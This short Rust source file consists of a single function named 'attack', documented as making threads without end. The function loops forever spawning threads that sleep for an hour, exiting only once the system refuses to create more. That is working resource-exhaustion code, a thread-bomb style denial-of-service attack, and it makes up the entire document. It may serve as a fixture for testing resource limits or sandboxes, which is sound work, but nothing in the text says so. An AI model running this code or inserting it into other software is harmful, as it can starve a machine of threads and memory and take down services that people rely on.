//! Makes threads without end.

fn attack() {
    loop {
        if std::thread::Builder::new()
            .spawn(|| std::thread::sleep(std::time::Duration::from_secs(3600)))
            .is_err()
        {
            std::process::exit(0);
        }
    }
}
